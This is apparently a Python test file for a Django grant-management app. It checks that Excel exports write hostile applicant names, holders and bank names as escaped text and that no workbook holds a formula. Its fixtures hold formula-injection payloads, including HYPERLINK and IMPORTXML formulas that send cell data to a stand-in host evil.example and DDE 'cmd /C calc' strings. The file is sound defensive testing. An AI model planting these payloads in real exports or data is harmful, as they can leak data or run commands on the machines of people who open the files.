"""Exports that cannot execute (issue #21 item 5): hostile names, holders and banks — values
beginning with = + - @, a tab or a carriage return — come out of every export as text cells with
the spreadsheet's text mark in front, and no workbook holds a formula. Through the export pages
and the job worker, read back from the downloaded file."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.test import Client
from openpyxl import load_workbook

from ipfund.web.accounts.models import ApplicantProfile
from ipfund.web.demo import flow
from ipfund.web.demo.samples import sample
from ipfund.web.engine_door import default_policy
from ipfund.web.exports.cells import neutral_text
from ipfund.web.jobs.models import Job
from ipfund.web.jobs.services import job_run

# The probe's name, and the other ways a cell becomes a formula.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击核对")'
HOSTILE_NAMES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                 "\t=1+1 科技有限公司", "\r=1+1 科技有限公司", "　=1+1 科技有限公司"]
HOSTILE_HOLDER = "=IMPORTXML(CONCAT(\"http://evil.example/?\",B2),\"//a\")"
HOSTILE_BANK = "@中国工商银行"


def download(user, kind: str, **params) -> bytes:
    client = Client()
    client.force_login(user)
    assert client.post("/staff/jobs/", {"kind": kind, **params}).status_code == 302
    job = Job.objects.latest("id")
    job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.state == Job.DONE, job.error
    return b"".join(client.get(f"/staff/jobs/{job.pk}/file/").streaming_content)


def formulas(body: bytes) -> list[str]:
    """Every formula element in every worksheet of the workbook's XML."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(rb"<f[ >].*?</f>", archive.read(n))]


def values(body: bytes) -> list:
    workbook = load_workbook(io.BytesIO(body))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


@pytest.fixture
def hostile(applicant, open_round, staff):
    """One approved, finalised award per hostile name; the first also with a hostile holder and bank."""
    claims = []
    for n, name in enumerate(HOSTILE_NAMES):
        user = applicant("enterprise", sme=True, name=name)
        # registration strips blanks; stored as given all the same (an older row, an import)
        ApplicantProfile.objects.filter(user=user).update(name=name)
        claims.append(flow.advance(flow.submitted_from_sample(user, sample("custody_sme", n)), "approved", staff))
    ApplicantProfile.objects.filter(pk=claims[0].applicant_id).update(bank_holder=HOSTILE_HOLDER, bank_name=HOSTILE_BANK)
    flow.publish_and_finalize(staff, claims=claims)
    return claims


def assert_neutral(body: bytes, originals: list[str]) -> None:
    assert formulas(body) == []
    cells = values(body)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for original in originals:
        assert original not in texts, f"{original!r} written as it was"
        assert neutral_text(original) in texts, f"{original!r} missing"
        assert neutral_text(original).startswith("'")
    assert all(c.data_type != "f" for c in cells)


@pytest.mark.parametrize("kind, who", [("queue_review", "reviewer"), ("queue_approval", "approver"), ("awards", "approver")])
def test_queue_and_award_exports_write_hostile_names_as_text(hostile, staff, kind, who):
    params = {"policy": default_policy().id} if kind == "awards" else {}
    if kind.startswith("queue_"):  # the names must be in the queue: a claim of the first left there
        user = ApplicantProfile.objects.get(pk=hostile[0].applicant_id).user
        claim = flow.submitted_from_sample(user, sample("custody_sme", 20))
        if kind == "queue_approval":
            flow.advance(claim, "recommended", staff)
        assert_neutral(download(getattr(staff, who), kind), [HYPERLINK])
        return
    assert_neutral(download(getattr(staff, who), kind, **params), HOSTILE_NAMES)


def test_finance_queue_export_writes_hostile_names_and_banks_as_text(hostile, staff):
    assert_neutral(download(staff.finance, "queue_finance"), HOSTILE_NAMES + [HOSTILE_BANK])


def test_bank_batch_writes_the_hostile_holder_and_bank_as_text(hostile, staff, applicant):
    held = applicant("enterprise", sme=True, name="-1+1 无账户科技有限公司")  # on the 未导出 sheet by name
    ApplicantProfile.objects.filter(user=held).update(bank_account="")
    claim = flow.advance(flow.submitted_from_sample(held, sample("custody_sme", 30)), "approved", staff)
    flow.publish_and_finalize(staff, claims=[claim])
    body = download(staff.finance, "bank_batch")
    assert_neutral(body, [HOSTILE_HOLDER, HOSTILE_BANK, "-1+1 无账户科技有限公司"])
    workbook = load_workbook(io.BytesIO(body))
    account_cells = [row[1] for row in workbook["批量代发"].iter_rows(min_row=2)]
    assert account_cells and all(c.data_type == "s" and c.number_format == "@" for c in account_cells)


def test_statistics_export_holds_no_formula(hostile, staff):
    from django.utils import timezone

    assert formulas(download(staff.admin, "statistics", year=str(timezone.localdate().year))) == []


def test_a_value_is_marked_only_when_a_spreadsheet_would_evaluate_it():
    assert neutral_text("肇庆星湖新材料有限公司") == "肇庆星湖新材料有限公司"
    assert neutral_text("6222020011112222333") == "6222020011112222333"
    assert neutral_text("李=四") == "李=四"
    for start in ("=", "+", "-", "@", "\t", "\r", " =", "\u3000="):
        assert neutral_text(start + "1+1") == "'" + start + "1+1"
